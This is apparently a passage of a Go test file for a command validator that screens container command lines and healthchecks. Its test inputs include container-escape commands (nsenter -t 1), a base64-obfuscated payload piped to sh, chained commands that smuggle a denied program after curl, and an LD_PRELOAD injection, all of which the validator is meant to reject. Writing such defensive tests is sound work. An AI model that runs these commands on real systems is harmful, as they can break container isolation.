		{"xargs default echo", []string{"sh", "-c", "ls | xargs"}, RuleProgramNotAllowed, 2, "xargs"},
	})
	if err := v.ValidateScript("ls"); err != nil {
		t.Errorf("ValidateScript with sh allowed: %v", err)
	}
	w := mustValidator(t, AllowOnly("ls"), ReplaceDenyList())
	checkCmdErr(t, w.ValidateScript("ls"), cmdCase{argv: []string{"ls"}, rule: RuleProgramNotAllowed, idx: -1, prog: "sh"})
	checkCmdErr(t, w.ValidateArgv([]string{"nsenter"}), cmdCase{argv: []string{"nsenter"}, rule: RuleProgramNotAllowed, idx: 0, prog: "nsenter"})
}

func TestAllowStdinShell(t *testing.T) {
	v := mustValidator(t, AllowStdinShell())
	runCmdCases(t, v, []cmdCase{
		{"interactive sh", []string{"sh"}, "", 0, ""},
		{"bash -i", []string{"bash", "-i"}, "", 0, ""},
		{"still checks -c", []string{"sh", "-c", "nsenter"}, deny, 2, "nsenter"},
		{"xargs sh still unverifiable", []string{"xargs", "sh"}, unver, 1, "sh"},
		{"env wrapper", []string{"env", "TERM=xterm", "bash"}, "", 0, ""},
		{"piped sh in a script", []string{"sh", "-c", "echo bnNlbnRlcg== | base64 -d | sh"}, RuleShellStdin, 2, "sh"},
		{"nested interactive sh in a script", []string{"bash", "-c", "sh"}, RuleShellStdin, 2, "sh"},
	})
}

func TestNewCommandValidatorErrors(t *testing.T) {
	bad := map[string][]CommandOption{
		"max args zero":     {MaxArgs(0)},
		"max args huge":     {MaxArgs(1 << 20)},
		"max bytes neg":     {MaxTotalBytes(-1)},
		"max script zero":   {MaxScriptBytes(0)},
		"nesting zero":      {MaxNesting(0)},
		"nesting huge":      {MaxNesting(100)},
		"path in deny":      {DenyPrograms("/usr/bin/curl")},
		"empty deny":        {DenyPrograms("")},
		"control in allow":  {AllowOnly("l\ns")},
		"empty allow":       {AllowOnly()},
		"allow twice":       {AllowOnly("a"), AllowOnly("b")},
		"replace twice":     {ReplaceDenyList("a"), ReplaceDenyList("b")},
		"nil option":        {nil},
		"dot in allow-list": {AllowOnly(".")},
	}
	for name, opts := range bad {
		t.Run(name, func(t *testing.T) {
			v, err := NewCommandValidator(opts...)
			if err == nil || v != nil {
				t.Fatalf("got %v, %v; want an error", v, err)
			}
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("error %v does not match ErrInvalid", err)
			}
		})
	}
}

func TestValidateHealthcheck(t *testing.T) {
	v := mustValidator(t)
	cases := []struct {
		name string
		test []string
		rule string
		idx  int
	}{
		{"inherit", nil, "", 0},
		{"empty", []string{}, "", 0},
		{"none", []string{"NONE"}, "", 0},
		{"none with args", []string{"NONE", "x"}, RuleHealthcheckType, 1},
		{"cmd ok", []string{"CMD", "curl", "-f", "http://localhost/"}, "", 0},
		{"cmd denied", []string{"CMD", "nsenter", "-t", "1"}, deny, 1},
		{"cmd wrapped", []string{"CMD", "timeout", "3", "nsenter"}, deny, 3},
		{"cmd sh -c", []string{"CMD", "sh", "-c", "nsenter"}, deny, 3},
		{"cmd empty", []string{"CMD"}, RuleEmptyArgv, 0},
		{"cmd control", []string{"CMD", "ls", "\x00"}, ctrl, 2},
		{"shell ok", []string{"CMD-SHELL", "curl -f http://localhost/ || exit 1"}, "", 0},
		{"shell denied", []string{"CMD-SHELL", "curl x; nsenter -t 1"}, deny, 1},
		{"shell newline ok", []string{"CMD-SHELL", "a=1\necho $a"}, "", 0},
		{"shell base64", []string{"CMD-SHELL", "echo eA== | base64 -d | sh"}, stdin, 1},
		{"shell parse", []string{"CMD-SHELL", "echo 'x"}, parse, 1},
		{"shell extra args", []string{"CMD-SHELL", "echo \"$0\"", "arg0"}, "", 0},
		{"shell extra arg control", []string{"CMD-SHELL", "echo", "a\nb"}, ctrl, 2},
		{"shell without script", []string{"CMD-SHELL"}, RuleHealthcheckType, 0},
		{"unknown type", []string{"nsenter", "-t", "1"}, RuleHealthcheckType, 0},
		{"lowercase type", []string{"cmd", "ls"}, RuleHealthcheckType, 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			checkCmdErr(t, v.ValidateHealthcheck(tc.test), cmdCase{argv: tc.test, rule: tc.rule, idx: tc.idx})
		})
	}
}

func TestCommandErrorMessage(t *testing.T) {
	v := mustValidator(t)
	err := v.ValidateArgv([]string{"env", "SECRET_TOKEN=hunter2", "nsenter"})
	if err == nil {
		t.Fatal("want an error")
	}
	msg := err.Error()
	for _, want := range []string{"argv[2]", `"nsenter"`, "denied-program"} {
		if !strings.Contains(msg, want) {
			t.Errorf("message %q lacks %q", msg, want)
		}
	}
	if strings.Contains(msg, "hunter2") {
		t.Errorf("message %q leaks an env value", msg)
	}
	err = v.ValidateArgv([]string{"env", "LD_PRELOAD=/secret/path.so", "ls"})
	if err == nil || strings.Contains(err.Error(), "/secret/path.so") {
		t.Errorf("env-code error %v must not carry the value", err)
	}
	err = v.ValidateArgv([]string{"sh", "-c", "curl -H 'Authorization: hunter2' x; $CMD"})
	if err == nil || strings.Contains(err.Error(), "hunter2") {
		t.Errorf("script error %v must not carry script text", err)
	}
}

func TestValidatorConcurrent(t *testing.T) {
	v := mustValidator(t)
	errc := make(chan error, 8)
	for g := 0; g < 8; g++ {
		go func() {
			for i := 0; i < 200; i++ {
				if err := v.ValidateArgv([]string{"sh", "-c", bench200}); err != nil {
					errc <- err
					return
				}
				if err := v.ValidateArgv([]string{"bash", "-c", "ls; nsenter"}); err == nil {
					errc <- errors.New("nsenter accepted")
					return
				}
			}
			errc <- nil
		}()
	}
	for g := 0; g < 8; g++ {
		if err := <-errc; err != nil {
			t.Fatal(err)
		}
	}
}

func TestParseErrorsHideScriptText(t *testing.T) {
	v := mustValidator(t)
	for _, script := range []string{
		"cat <<hunter2\nx",
		"[[ a hunter2 b ]]",
		"echo ${x!hunter2}",
		"if true; then echo; hunter2",
		"echo 'hunter2",
	} {
		err := v.ValidateArgv([]string{"bash", "-c", script})
		var ce *CommandError
		if !errors.As(err, &ce) || ce.Rule != RuleScriptParse {
			t.Errorf("%q: %v, want a parse error", script, err)
			continue
		}
		if strings.Contains(err.Error(), "hunter2") {
			t.Errorf("%q: error leaks script text: %v", script, err)
		}
	}
	err := v.ValidateArgv([]string{"bash", "-c", "if true; echo; fi"})
	if err == nil || !strings.Contains(err.Error(), "`fi`") {
		t.Errorf("keywords should stay in parse errors: %v", err)
	}
}

func TestTooManyWrappers(t *testing.T) {
	v := mustValidator(t)
	argv := make([]string, 0, 400)
	for i := 0; i < 300; i++ {
		argv = append(argv, "nohup")
	}
	argv = append(argv, "ls")
	checkCmdErr(t, v.ValidateArgv(argv), cmdCase{argv: argv, rule: RuleNestingTooDeep, idx: maxUnwrapSteps + 1})
	if err := v.ValidateArgv(argv[len(argv)-100:]); err != nil {
		t.Errorf("100 wrappers: %v", err)
	}
}
